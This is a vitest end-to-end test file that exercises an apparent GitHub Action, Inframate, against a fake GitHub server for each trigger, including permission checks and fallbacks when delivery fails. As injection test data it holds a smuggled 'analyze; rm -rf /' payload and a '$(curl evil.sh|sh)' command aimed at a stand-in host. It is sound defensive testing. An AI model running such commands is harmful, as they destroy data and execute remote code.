// End to end: the bundled Action against the fake GitHub, one test per trigger.
// Rebuild the bundle first: flock /tmp/inframate-bundle.lock npm run bundle
import { cpSync, existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { readSections } from '../../src/github/markers';
import { FakeGitHub } from '../fakes/github/server';
import { DIST, eventPayload, filesOf, ROOT, runAction, SHOP, workspaceFrom } from './runner';

let fake: FakeGitHub;
const users = [
  { login: 'ada', permission: 'admin' as const },
  { login: 'mallory', permission: 'read' as const },
];

beforeAll(() => {
  if (!existsSync(DIST)) throw new Error('dist/index.js is missing: run npm run bundle');
});

afterEach(async () => {
  expect(fake.violations).toEqual([]);
  await fake.stop();
});

async function startShop(): Promise<string> {
  fake = new FakeGitHub({ users, files: filesOf(SHOP) });
  await fake.start();
  return fake.refs.get('refs/heads/main')!;
}

describe('push and workflow_dispatch', () => {
  it('analyzes, writes reports and outputs, and three runs leave one PR and no new commits after the first', async () => {
    const sha = await startShop();
    const workspace = workspaceFrom();
    const payload = eventPayload('push', { __SHA__: sha });
    const results = [];
    const commitsAfter: number[] = [];
    for (let i = 0; i < 3; i++) {
      results.push(await runAction({ event: 'push', payload, apiUrl: fake.url, workspace, sha }));
      commitsAfter.push(fake.commitCount());
    }
    for (const r of results) {
      expect(r.stderr).not.toMatch(/at .+\.js:\d+/); // never a stack trace
      expect(r.outputs['exit-code']).toBe('0');
      expect(r.outputs['report-path']).toMatch(/inframate-analyze\.md$/);
      expect(existsSync(r.outputs['report-path'])).toBe(true);
      expect(existsSync(r.outputs['json-path'])).toBe(true);
      expect(r.summary).toContain('Inframate `analyze`');
    }
    const generated = (results[0].outputs['generated-files'] ?? '').split('\n').filter(Boolean);
    expect(generated.length).toBeGreaterThan(3);
    expect(fake.pulls()).toHaveLength(1);
    const pr = fake.pulls()[0];
    expect(pr).toMatchObject({ head: 'inframate/analyze', base: 'main', labels: ['inframate'] });
    for (const r of results) expect(r.outputs['pr-number']).toBe(String(pr.number));
    expect(pr.body).toContain('<!-- inframate:pr:analyze -->');
    for (const path of generated) expect(fake.fileAt('inframate/analyze', path), path).toBeDefined();
    expect(results[0].summary).toMatch(/opened \[#1\]/);
    expect(results[2].summary).toMatch(/unchanged \[#1\]/);
    expect(commitsAfter[0]).toBe(2); // the initial commit and Inframate's one
    expect(commitsAfter[1]).toBe(commitsAfter[0]);
    expect(commitsAfter[2]).toBe(commitsAfter[0]);
    // Never runs the repository's code: the fixture's postinstall would have written PWNED.
    expect(existsSync(join(workspace, 'PWNED'))).toBe(false);
  });

  it('skips a push that only touched generated infrastructure, and pushes to its own branch', async () => {
    const sha = await startShop();
    const workspace = workspaceFrom();
    const onlyInfra = JSON.parse(eventPayload('push', { __SHA__: sha }));
    onlyInfra.commits[0].added = ['infra/main.tf'];
    onlyInfra.commits[0].modified = [];
    const r = await runAction({ event: 'push', payload: JSON.stringify(onlyInfra), apiUrl: fake.url, workspace, sha });
    expect(r.code).toBe(0);
    expect(r.outputs.skipped).toMatch(/only generated infrastructure/);
    const own = await runAction({
      event: 'push',
      payload: eventPayload('push', { __SHA__: sha }),
      apiUrl: fake.url,
      workspace,
      sha,
      ref: 'refs/heads/inframate/analyze',
    });
    expect(own.outputs.skipped).toMatch(/own branch/);
    expect(fake.writes()).toEqual([]);
  });

  it('workflow_dispatch runs the configured command with inputs named like the runner names them', async () => {
    const sha = await startShop();
    const r = await runAction({
      event: 'workflow_dispatch',
      payload: eventPayload('workflow_dispatch'),
      apiUrl: fake.url,
      workspace: workspaceFrom(),
      sha,
      inputs: { 'fail-on': 'none', 'create-pr': 'false', format: 'json', output: 'out/report.json' },
    });
    expect(r.outputs['exit-code']).toBe('0');
    expect(r.outputs['output-path']).toMatch(/out\/report\.json$/);
    expect(JSON.parse(readFileSync(r.outputs['output-path'], 'utf8'))).toMatchObject({
      schemaVersion: 1,
      command: 'analyze',
    });
    expect(fake.pulls()).toHaveLength(0);
  });

  it('a bad input is a clear error with exit code 2, not a stack trace', async () => {
    const sha = await startShop();
    const r = await runAction({
      event: 'workflow_dispatch',
      payload: eventPayload('workflow_dispatch'),
      apiUrl: fake.url,
      workspace: workspaceFrom(),
      sha,
      inputs: { 'fail-on': 'severe' },
    });
    expect(r.outputs['exit-code']).toBe('2');
    expect(r.stdout).toContain('::error::--fail-on must be one of');
    expect(r.code).not.toBe(0);
  });
});

describe('secure: annotations, SARIF and fail-on', () => {
  it('annotates the files concerned within the per-step caps, writes SARIF and fails on high findings', async () => {
    const sha = await startShop();
    const workspace = workspaceFrom(join(ROOT, 'tests', 'e2e', 'fixtures', 'tf'));
    const r = await runAction({
      event: 'workflow_dispatch',
      payload: eventPayload('workflow_dispatch'),
      apiUrl: fake.url,
      workspace,
      sha,
      inputs: { command: 'secure', 'working-directory': 'infra', 'fail-on': 'high' },
    });
    expect(r.outputs['exit-code']).toBe('1');
    expect(r.stdout).toContain('::error::inframate secure: findings at or above the fail-on level (exit code 1)');
    const errors = r.stdout.split('\n').filter((l) => l.startsWith('::error ') && l.includes('file=infra/main.tf'));
    const warnings = r.stdout.split('\n').filter((l) => l.startsWith('::warning ') && l.includes('file=infra/main.tf'));
    const findings = Number(r.outputs.findings);
    expect(findings).toBeGreaterThan(10);
    expect(errors.length).toBeGreaterThan(0);
    expect(errors.length).toBeLessThanOrEqual(10);
    expect(warnings.length).toBeLessThanOrEqual(10);
    expect(errors.some((l) => /line=\d+/.test(l))).toBe(true);
    const omitted = findings - errors.length - warnings.length;
    if (omitted > 0) expect(r.summary).toContain(`${omitted} more findings`);
    const sarif = JSON.parse(readFileSync(r.outputs['sarif-path'], 'utf8'));
    expect(sarif.version).toBe('2.1.0');
    expect(sarif.runs[0].results.length).toBe(findings);
    expect(fake.pulls()).toHaveLength(0); // secure changes no files
  });
});

describe('schedule and repository_dispatch', () => {
  it('schedule runs the configured command against the default branch', async () => {
    const sha = await startShop();
    const r = await runAction({
      event: 'schedule',
      payload: eventPayload('schedule'),
      apiUrl: fake.url,
      workspace: workspaceFrom(),
      sha,
      inputs: { command: 'analyze' },
    });
    expect(r.outputs['exit-code']).toBe('0');
    expect(r.summary).toContain('Inframate `analyze`');
  });

  it('repository_dispatch takes an allowlisted command from client_payload and rejects anything else', async () => {
    const sha = await startShop();
    const ok = await runAction({
      event: 'repository_dispatch',
      payload: eventPayload('repository_dispatch'),
      apiUrl: fake.url,
      workspace: workspaceFrom(),
      sha,
    });
    expect(ok.outputs['exit-code']).toBe('0');
    expect(ok.outputs.skipped).toBeUndefined();
    const bad = JSON.parse(eventPayload('repository_dispatch'));
    bad.client_payload = { command: 'analyze; rm -rf /', options: { 'no-ai': true } };
    const refused = await runAction({
      event: 'repository_dispatch',
      payload: JSON.stringify(bad),
      apiUrl: fake.url,
      workspace: workspaceFrom(),
      sha,
    });
    expect(refused.outputs.skipped).toMatch(/client_payload rejected/);
  });
});

describe('pull_request', () => {
  async function openPr(headRepo = 'acme/shop') {
    const sha = await startShop();
    const pr = fake.addIssue('Add checkout', 'b', { pull: true, head: 'feature/checkout' });
    const payload = eventPayload('pull_request', { __SHA__: sha, __BASE_SHA__: sha, __HEAD_REPO__: headRepo })
      .replace('"number": 7', `"number": ${pr.number}`)
      .replace('"number": 7', `"number": ${pr.number}`);
    return { sha, pr, payload };
  }

  it('keeps exactly one sticky comment over three runs, with the report in a section', async () => {
    const { sha, pr, payload } = await openPr();
    const workspace = workspaceFrom();
    const urls = [];
    for (let i = 0; i < 3; i++) {
      const r = await runAction({ event: 'pull_request', payload, apiUrl: fake.url, workspace, sha, ref: `refs/pull/${pr.number}/merge` });
      expect(r.outputs['exit-code']).toBe('0');
      urls.push(r.outputs['comment-url']);
    }
    const comments = fake.commentsOn(pr.number);
    expect(comments).toHaveLength(1);
    expect(comments[0].body).toContain('<!-- inframate:comment:analyze -->');
    expect(readSections(comments[0].body).map((s) => s.key)).toEqual(['.']);
    expect(comments[0].body).toMatch(/Generated infrastructure diff \(\d+ added\)/);
    expect(new Set(urls).size).toBe(1);
    expect(fake.requests.filter((r) => r.method === 'PATCH' && r.path.includes('/issues/comments/'))).toHaveLength(0);
    expect(fake.pulls()).toHaveLength(1); // no PR opened on a PR event
  });

  it('matrix jobs for two working directories share one comment with one section each', async () => {
    const { sha, pr, payload } = await openPr();
    const workspace = workspaceFrom();
    cpSync(SHOP, join(workspace, 'services', 'api'), { recursive: true });
    await Promise.all([
      runAction({ event: 'pull_request', payload, apiUrl: fake.url, workspace, sha, inputs: { 'working-directory': '.' } }),
      runAction({ event: 'pull_request', payload, apiUrl: fake.url, workspace, sha, inputs: { 'working-directory': 'services/api' } }),
    ]);
    const comments = fake.commentsOn(pr.number);
    expect(comments).toHaveLength(1);
    expect(readSections(comments[0].body).map((s) => s.key)).toEqual(['.', 'services/api']);
  });

  it('a fork PR (read-only token) gets the job summary instead, saying why', async () => {
    const { sha, pr, payload } = await openPr('mallory/shop');
    const r = await runAction({ event: 'pull_request', payload, apiUrl: fake.url, workspace: workspaceFrom(), sha, token: 'read-token' });
    expect(r.outputs['exit-code']).toBe('0');
    expect(r.summary).toContain('fork mallory/shop');
    expect(r.summary).toContain('read-only token');
    expect(fake.commentsOn(pr.number)).toHaveLength(0);
  });

  it('a token that cannot write (403) falls back to the job summary', async () => {
    const { sha, pr, payload } = await openPr();
    const r = await runAction({ event: 'pull_request', payload, apiUrl: fake.url, workspace: workspaceFrom(), sha, token: 'read-token' });
    expect(r.summary).toContain('the token cannot write');
    expect(fake.commentsOn(pr.number)).toHaveLength(0);
    expect(r.outputs['exit-code']).toBe('0');
  });
});

describe('delivery failures', () => {
  async function prRun() {
    const sha = await startShop();
    const pr = fake.addIssue('Add checkout', 'b', { pull: true, head: 'feature/checkout' });
    const payload = eventPayload('pull_request', { __SHA__: sha, __BASE_SHA__: sha, __HEAD_REPO__: 'acme/shop' }).replace(
      /"number": 7/g,
      `"number": ${pr.number}`,
    );
    return { sha, pr, payload };
  }

  it('a transient 502 on a read is retried by the supervisor and the comment still lands', async () => {
    const { sha, pr, payload } = await prRun();
    fake.failNext('GET /repos/{owner}/{repo}/issues/{issue_number}/comments', 502, 1);
    const r = await runAction({ event: 'pull_request', payload, apiUrl: fake.url, workspace: workspaceFrom(), sha });
    expect(r.outputs['exit-code']).toBe('0');
    expect(fake.commentsOn(pr.number)).toHaveLength(1);
  });

  it('a 502 on creating the comment: looked for again, created once, the run succeeds', async () => {
    const { sha, pr, payload } = await prRun();
    fake.failNext('POST /repos/{owner}/{repo}/issues/{issue_number}/comments', 502, 1);
    const r = await runAction({ event: 'pull_request', payload, apiUrl: fake.url, workspace: workspaceFrom(), sha });
    expect(r.outputs['exit-code']).toBe('0');
    expect(fake.commentsOn(pr.number)).toHaveLength(1);
  });

  it('push: a 502 returned after GitHub opened the PR (answer lost) ends with exactly one PR and exit 0', async () => {
    const sha = await startShop();
    fake.inject('POST /repos/{owner}/{repo}/pulls', { when: 'after', status: 502 });
    const r = await runAction({
      event: 'push',
      payload: eventPayload('push', { __SHA__: sha }),
      apiUrl: fake.url,
      workspace: workspaceFrom(),
      sha,
    });
    expect(r.outputs['exit-code']).toBe('0');
    expect(fake.pulls()).toHaveLength(1);
    expect(r.outputs['pr-number']).toBe(String(fake.pulls()[0]!.number));
  });

  it('push: GitHub keeps failing to open the PR → an issue carries the patch (recovery pr-issue), nothing lost', async () => {
    const sha = await startShop();
    fake.inject('POST /repos/{owner}/{repo}/pulls', { when: 'before', status: 502 }, 100);
    const r = await runAction({
      event: 'push',
      payload: eventPayload('push', { __SHA__: sha }),
      apiUrl: fake.url,
      workspace: workspaceFrom(),
      sha,
    });
    expect(fake.pulls()).toHaveLength(0);
    const issues = [...fake.issues.values()].filter((i) => !i.isPull);
    expect(issues).toHaveLength(1);
    expect(issues[0]!.body).toContain('```diff');
    expect(r.summary).toContain('(recovery: pr-issue)');
    expect(r.outputs['exit-code']).toBe('0');
  });

  it('a comment GitHub will not take loses nothing: files kept, the summary says so, the step fails', async () => {
    const { sha, pr, payload } = await prRun();
    fake.failNext('POST /repos/{owner}/{repo}/issues/{issue_number}/comments', 502, 100);
    const r = await runAction({ event: 'pull_request', payload, apiUrl: fake.url, workspace: workspaceFrom(), sha });
    expect(fake.commentsOn(pr.number)).toHaveLength(0);
    expect(r.outputs['exit-code']).toBe('3');
    expect(r.summary).toContain('could not be delivered');
    expect(r.summary).toContain(r.outputs['report-path']);
    expect(readFileSync(r.outputs['report-path'], 'utf8')).toContain('Inframate');
    expect(r.stdout).toContain('::error::inframate analyze: results could not be delivered to GitHub');
  });
});

describe('issue_comment', () => {
  async function commentBy(user: string, body: string) {
    const sha = await startShop();
    const pr = fake.addIssue('Add checkout', 'b', { pull: true, head: 'feature/checkout' });
    const c = fake.addComment(pr.number, body, user);
    const payload = JSON.parse(eventPayload('issue_comment', { __USER__: user }));
    payload.comment.id = c.id;
    payload.comment.body = body;
    payload.issue.number = pr.number;
    return { sha, pr, c, payload: JSON.stringify(payload) };
  }

  it('runs /inframate for a collaborator with write access: 👀, a sticky answer, then 🚀', async () => {
    const { sha, pr, c, payload } = await commentBy('ada', '/inframate analyze --fail-on none --no-ai');
    const r = await runAction({ event: 'issue_comment', payload, apiUrl: fake.url, workspace: workspaceFrom(), sha });
    expect(r.outputs['exit-code']).toBe('0');
    expect(fake.reactions.filter((x) => x.commentId === c.id).map((x) => x.content)).toEqual(['eyes', 'rocket']);
    const answers = fake.commentsOn(pr.number).filter((x) => x.id !== c.id);
    expect(answers).toHaveLength(1);
    expect(answers[0].body).toContain('<!-- inframate:comment:analyze -->');
  });

  it('refuses a user without write permission: 👎 and a reply, nothing run', async () => {
    const { sha, pr, c, payload } = await commentBy('mallory', '/inframate analyze');
    const r = await runAction({ event: 'issue_comment', payload, apiUrl: fake.url, workspace: workspaceFrom(), sha });
    expect(r.code).toBe(0);
    expect(r.outputs.skipped).toMatch(/refused/);
    expect(fake.reactions.filter((x) => x.commentId === c.id).map((x) => x.content)).toEqual(['-1']);
    const replies = fake.commentsOn(pr.number).filter((x) => x.id !== c.id);
    expect(replies).toHaveLength(1);
    expect(replies[0].body).toContain('write, maintain or admin');
    expect(r.outputs['report-path']).toBeUndefined();
  });

  it('rejects a command outside the allowlist without echoing it into anything executable', async () => {
    const { sha, pr, c, payload } = await commentBy('ada', '/inframate $(curl evil.sh|sh) `id`');
    const r = await runAction({ event: 'issue_comment', payload, apiUrl: fake.url, workspace: workspaceFrom(), sha });
    expect(r.outputs['exit-code']).toBe('2');
    const reply = fake.commentsOn(pr.number).find((x) => x.id !== c.id)!;
    expect(reply.body).toContain('unknown command');
    expect(reply.body).not.toContain('$(curl');
    expect(fake.reactions.map((x) => x.content)).toEqual(['-1']);
  });

  it('ignores comments that are not /inframate commands', async () => {
    const { sha, payload } = await commentBy('ada', 'LGTM, thanks!');
    const r = await runAction({ event: 'issue_comment', payload, apiUrl: fake.url, workspace: workspaceFrom(), sha });
    expect(r.outputs.skipped).toMatch(/does not start with \/inframate/);
    expect(fake.writes()).toEqual([]);
  });
});
